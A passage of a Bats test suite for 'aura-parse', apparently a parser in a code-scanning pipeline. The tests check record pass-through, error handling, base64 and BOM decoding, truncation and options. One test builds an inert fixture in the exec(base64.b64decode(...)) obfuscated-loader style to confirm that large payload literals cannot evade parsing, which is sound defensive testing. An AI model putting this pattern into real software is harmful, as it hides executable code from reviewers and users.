	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_output "$(cat "$BATS_TEST_TMPDIR/in")"
}

@test "other records pass through unchanged and in order" {
	in='{"type":"artifact","v":1,"id":"a","kind":"file"}
{"type":"hit","v":1,"detection":"X","extra":{"nested":[1, 2]}}
{"type":"whatever","v":1}
{"type":"artifact_end","v":1,"artifact":"a","files":0}'
	run --separate-stderr aura-parse <<<"$in"
	assert_success
	assert_output "$in"
}

@test "a bad line becomes an error record and the stream goes on" {
	run --separate-stderr aura-parse <<<$'not json\n{"type":"x","v":1}'
	assert_success
	assert_equal "$stderr" "$(printf '%s' "$stderr" | grep -m1 'aura-parse: .*<stdin>:1')"
	assert_equal "$(jq -r .type <<<"${lines[0]}")" error
	assert_equal "${lines[1]}" '{"type":"x","v":1}'
}

@test "base64 content is decoded before parsing" {
	printf 'x = "\xe9"  # latin-1 byte, not UTF-8\nimport os\n' >"$BATS_TEST_TMPDIR/b.py"
	printf 'import base64\nprint(1)\n' >"$BATS_TEST_TMPDIR/c.py"
	file_record "$BATS_TEST_TMPDIR/c.py" python base64 >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Import","Expr"]'
	file_record "$BATS_TEST_TMPDIR/b.py" python base64 >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_records
	assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Assign","Import"]'
}

@test "a UTF-8 byte order mark is skipped and columns stay byte offsets" {
	printf '\xef\xbb\xbfx = "\xc3\xa9" + y\n' >"$BATS_TEST_TMPDIR/bom.py"
	file_record "$BATS_TEST_TMPDIR/bom.py" >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	refute_output --partial SyntaxError
	compare_with_oracle "$BATS_TEST_TMPDIR/bom.py"
}

@test "a truncated file record is still parsed" {
	jq -c '.truncated = true | .content = "import os\nx = (1,"' <<<'{"type":"file","v":1,"artifact":"a","id":"a:0","path":"t.py","kind":"python","content_encoding":"utf-8"}' >"$BATS_TEST_TMPDIR/in"
	run --separate-stderr aura-parse <"$BATS_TEST_TMPDIR/in"
	assert_success
	assert_valid_records
	assert_equal "$(records_of_type ast <<<"$output" | jq -r '.tree.body[0]._type')" Import
}

@test "an empty python file yields an empty Module" {
	: >"$BATS_TEST_TMPDIR/empty.py"
	compare_with_oracle "$BATS_TEST_TMPDIR/empty.py"
}

@test "options: --help, bad --max-depth, --timeout-ms" {
	run aura-parse --help
	assert_success
	assert_output --partial --max-depth
	run -2 aura-parse --max-depth nope
	run --separate-stderr aura-parse --timeout-ms 100 <<<'{"type":"x","v":1}'
	assert_success
}

@test "a statement carrying a long string literal is parsed whole even when bigger than a chunk" {
	# Chunks are measured in code bytes: a plain literal is one token whatever its size, so a
	# payload literal cannot push the code around it out of the tree.
	python3 -c '
blob = "QUJD" * 50000
print("import base64")
print("exec(base64.b64decode(\"" + blob + "\"))")
print("x = [" + "1," * 2000 + "]")
' > "$BATS_TEST_TMPDIR/payload.py"
	file_record "$BATS_TEST_TMPDIR/payload.py" > "$BATS_TEST_TMPDIR/in"
	AURA_PARSE_CHUNK_BYTES=3000 aura-parse < "$BATS_TEST_TMPDIR/in" > "$BATS_TEST_TMPDIR/out"
	run jq -c 'select(.type=="ast") | [.tree.body[] | ._type + ":" + (.value._type // "")]' "$BATS_TEST_TMPDIR/out"
	assert_output '["Import:","Expr:Call","Truncated:"]'
}
